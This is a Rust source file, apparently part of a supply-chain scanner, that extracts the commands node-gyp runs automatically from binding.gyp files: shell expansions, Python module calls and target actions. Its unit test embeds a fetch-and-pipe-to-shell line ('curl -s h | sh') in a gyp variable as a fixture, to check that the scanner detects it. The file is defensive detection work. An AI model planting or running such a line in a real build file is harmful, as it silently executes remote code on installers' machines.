//! `binding.gyp` and `.gypi`: commands that `node-gyp` expands while it only reads the file (`<!(…)`, `<!@(…)`, `<|(…)`), and
//! the actions of targets. npm starts `node-gyp` by itself for a package with a `binding.gyp` and no install script.
//!
//! Reference: <https://gyp.gsrc.io/docs/InputFormatReference.md>. Known uses: "Phantom Gyp" (June 2026).

use serde_json::Value;

use super::{Command, When, line_of, loose};
use crate::analyze::Notes;
use crate::parse::Parsed;

/// Most values that are walked.
const MOST: usize = 100_000;

/// Longest name of a module, in bytes.
const MODULE: usize = 200;

/// Reads a gyp file: its strings when it can be read as Python does, its text otherwise.
pub(super) fn read(_: &Parsed<'_>, text: &str, out: &mut Vec<Command>, _: &mut Notes) {
    let Some(value) = loose::loose(text) else {
        expansions(text, out);
        return;
    };
    let mut stack = vec![&value];
    let mut walked = 0;
    while let Some(value) = stack.pop() {
        walked += 1;
        if walked > MOST {
            super::fill(out);
            return;
        }
        match value {
            Value::String(text) => expansions(text, out),
            Value::Array(items) => stack.extend(items.iter().rev()),
            Value::Object(members) => {
                for key in ["action", "postbuild_action", "command"] {
                    if let Some(line) = members.get(key).filter(|v| v.is_array()).and_then(line_of) {
                        out.push(Command::shell("gyp action", When::Automatic, line.trim_start_matches("$(")));
                    }
                }
                for key in members.keys() {
                    expansions(key, out);
                }
                stack.extend(members.values().rev());
            }
            _ => {}
        }
    }
}

/// The commands in one string; brackets inside of quotes do not count.
fn expansions(text: &str, out: &mut Vec<Command>) {
    let mut rest = text;
    while let Some(at) = next_expansion(rest).filter(|_| !super::is_full(out)) {
        rest = rest.get(at + 2..).unwrap_or_default();
        let inner = rest.strip_prefix('@').unwrap_or(rest);
        // `<!pymod_do_main(…)` runs a Python module of the package.
        if let Some(module) = inner.strip_prefix("pymod_do_main") {
            let name = module.trim_start_matches('(');
            let name = name.get(..name.floor_char_boundary(MODULE)).unwrap_or(name);
            let name = name.split([')', ' ', '<', '\'', '"']).next().unwrap_or_default();
            out.push(Command::words("gyp expansion", When::Automatic, ["python3", &format!("{name}.py")]));
            rest = module;
            continue;
        }
        let Some(inner) = inner.strip_prefix('(') else { continue };
        let end = closing(inner);
        out.push(Command::shell("gyp expansion", When::Automatic, inner.get(..end).unwrap_or(inner)));
        rest = inner.get(end..).unwrap_or_default();
    }
}

/// Where the next `<!` or `<|` stands.
fn next_expansion(text: &str) -> Option<usize> {
    memchr::memchr_iter(b'<', text.as_bytes()).find(|at| matches!(text.as_bytes().get(at + 1), Some(b'!' | b'|')))
}

fn closing(text: &str) -> usize {
    let mut depth = 0_u32;
    let mut quote = None;
    let mut escaped = false;
    for (i, c) in text.char_indices() {
        if escaped {
            escaped = false;
            continue;
        }
        match (quote, c) {
            (_, '\\') => escaped = true,
            (Some(q), c) if q == c => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'' | '`') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') if depth == 0 => return i,
            (None, ')') => depth -= 1,
            _ => {}
        }
    }
    // The quotes did not close: the last bracket is the best guess.
    text.rfind(')').unwrap_or(text.len())
}

#[cfg(test)]
mod tests {
    use crate::analyze::commands::tests::commands;
    use crate::model::FileKind;

    #[test]
    fn expansions_and_actions_are_commands() {
        let text = "{ 'variables': {'v%': '<!(curl -s h | sh; echo \")\")'}, # c\n 'targets': [{'include_dirs': \
                    [\"<!@(node -p \\\"require('x').include\\\")\"], 'actions': [{'action': ['node', '-e', 'a(\"b\")']}]}] }";
        assert_eq!(
            commands("binding.gyp", FileKind::Json, text),
            [
                "Automatic gyp expansion: curl -s h | sh; echo \")\"",
                "Automatic gyp expansion: node -p \"require('x').include\"",
                "Automatic gyp action: node -e 'a(\"b\")'"
            ]
        );
    }
}
